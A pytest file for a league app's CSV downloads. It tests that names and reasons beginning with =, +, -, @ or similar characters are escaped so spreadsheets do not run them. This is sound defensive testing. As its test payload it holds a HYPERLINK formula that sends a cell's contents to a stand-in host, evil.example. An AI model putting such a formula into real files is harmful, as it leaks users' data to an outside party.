"""Spreadsheet formulas in names and reasons: no file has a cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
import zipfile
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from games.closing.services import evening_close
from games.models import Table
from league.models import Player
from league.standings.counting import count_season
from league.web import csv_download
from tests.cast import House, cast
from tests.factories import FAILED, MADE, create_table, enter, void
from tests.permissions import ROUTES

pytestmark = pytest.mark.django_db

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA = 'HYPERLINK("https://evil.example/?"&A1;"Anna")'
FILES = sorted(name for name in ROUTES if "csv" in name)
CASES = [(name, "", ",") for name in FILES]
CASES += [(name, "?for=excel", ";") for name in FILES if not name.startswith("api-")]
NUMBER = re.compile(r"-?\d+")
SHORT = 40


@pytest.fixture
def house() -> House:
    """A club in which every text of a person is a formula."""
    found = cast().home
    table = create_table(club=found.club, season=found.season, author=found.owner, seats=7)
    for player, start in zip(Player.objects.filter(club=found.club).order_by("pk"), STARTS, strict=False):
        player.nickname = player.pseudonym = (start + FORMULA)[:SHORT]
        player.publicity = "pseudonym"
        player.save()
    found.owner.first_name = "=" + FORMULA[:20]
    found.owner.save()
    found.club.name = found.club.place = "@" + FORMULA
    found.club.save()
    for record in (MADE, FAILED, MADE):
        enter(table, record, author=found.owner)
    void(table, author=found.owner)
    enter(table, MADE, author=found.owner)
    evening_close(evening=table.evening, author=found.owner, key=uuid.uuid4())
    count_season(found.season.pk)
    return found


def address(name: str, house: House) -> str:
    evening = Table.objects.get(evening__club=house.club).evening_id
    names = {"season": {"season": house.season.slug}, "evening": {"evening": evening}, "": {}}
    return reverse(name, kwargs={"club": house.club.slug, **names[ROUTES[name].names]})  # type: ignore[union-attr]


def text_of(answer: Any) -> str:
    assert answer.status_code == 200
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return str(body.decode("utf-8-sig"))


def dangerous(text: str, delimiter: str) -> list[str]:
    """Return the cells that a spreadsheet takes for a formula."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)
    return [cell for row in rows for cell in row if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize(("name", "query", "delimiter"), CASES)
def test_no_file_has_a_formula(house: House, name: str, query: str, delimiter: str) -> None:
    client = Client()
    client.force_login(house.owner)
    text = text_of(client.get(address(name, house) + query))
    assert dangerous(text, delimiter) == []
    if "ledger" not in name and "log" not in name:
        assert "HYPERLINK" in text


def test_the_personal_data_export_has_no_formula(house: House) -> None:
    mine = Player.objects.filter(club=house.club).earliest("pk")
    Player.objects.filter(pk=mine.pk).update(user=house.owner)
    client = Client()
    client.force_login(house.owner)
    answer = client.get(reverse("account-data-file"))
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    with zipfile.ZipFile(io.BytesIO(body)) as files:
        sheets = {name: files.read(name).decode("utf-8-sig") for name in files.namelist() if name.endswith(".csv")}
    assert sheets
    for name, text in sheets.items():
        delimiter = ";" if text.partition("\n")[0].count(";") else ","
        assert dangerous(text, delimiter) == [], name


def test_without_the_mark_files_have_formulas(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same files without the mark before a formula."""
    monkeypatch.setattr(csv_download, "FORMULA_STARTS", ("never",))
    client = Client()
    client.force_login(house.owner)
    assert dangerous(text_of(client.get(address("standings-csv", house))), ",")


@pytest.mark.parametrize("start", STARTS)
def test_each_start_of_a_formula_gets_a_mark(start: str) -> None:
    assert csv_download.cell(start + "1+1") == "'" + start + "1+1"


def test_numbers_stay_numbers() -> None:
    assert [csv_download.cell(value) for value in (-120, 0, 7)] == ["-120", "0", "7"]
    assert json.loads(csv_download.cell(-120)) == -120
